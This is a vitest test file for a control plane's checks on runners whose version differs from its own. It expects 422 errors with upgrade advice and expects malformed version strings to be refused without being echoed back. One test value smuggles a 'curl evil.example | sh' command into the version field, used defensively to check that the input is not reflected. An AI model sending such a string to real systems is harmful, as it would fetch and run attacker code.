/** A runner of another version than the control plane is refused only where it is not understood, and is told which of the two is to be upgraded. */
import { beforeAll, expect, test } from 'vitest'
import { testPlane, type TestPlane } from '../../test/plane.ts'
import { version } from '../version.ts'
import { capabilities, TestRunner } from './testing/known-runner.ts'

let at: TestPlane
let runner: TestRunner
beforeAll(async () => {
  at = await testPlane()
  const acme = await at.workspace('acme', ['payments'])
  runner = await new TestRunner(at.url).pair(at.plane.context.db, acme.id, 'laptop')
  await runner.login()
})

/** What this control plane knows nothing of. */
const dreams = { dreams: ['of sheep'] }
const hello = (vpd: string, more: object = {}) =>
  runner.post('/wire/hello', { capabilities: { ...capabilities({ vpd }), ...more }, holding: [] })
const pairing = (vpd: string, more: object = {}) => {
  const other = new TestRunner(at.url)
  const asked = { key: other.jwk, name: null, pool: null, capabilities: { ...capabilities({ vpd }), ...more } }
  return other.post('/wire/pairings', asked)
}

test.each([
  ['comes online', hello],
  ['is paired', pairing],
])('a runner that %s', async (_when, says) => {
  const newer = await says('99.1.0-beta.1', dreams)
  expect(newer).toMatchObject({ status: 422, body: { code: 'runner_newer' } })
  expect(newer.body.detail).toBe(
    `This runner has vpd 99.1.0-beta.1, which is newer than the control plane (${version}) and says what is not understood there: message.capabilities.dreams: Unrecognized key: "dreams".`,
  )
  expect(newer.body.next).toMatch(/^Upgrade the control plane to 99\.1\.0-beta\.1 or later/)
  const older = await says('0.0.9', dreams)
  expect(older).toMatchObject({ status: 422, body: { code: 'runner_older' } })
  expect(older.body.next).toContain(`npm i -g @viewportai/daemon@${version}`)
  // What both understand is taken, whatever the versions.
  for (const vpd of ['99.1.0', '0.0.9', 'of my own']) expect((await says(vpd)).status).toBe(200)
  // Between equals, and from whoever names no version, it is a message that does not fit, and nothing of it is repeated.
  for (const vpd of [version, 'v9; curl evil.example | sh', `9.9.9-${'x'.repeat(80)}`]) {
    const odd = await says(vpd, dreams)
    expect(odd).toMatchObject({ status: 422, body: { code: 'invalid' } })
    expect(JSON.stringify(odd.body)).not.toContain('evil')
  }
})
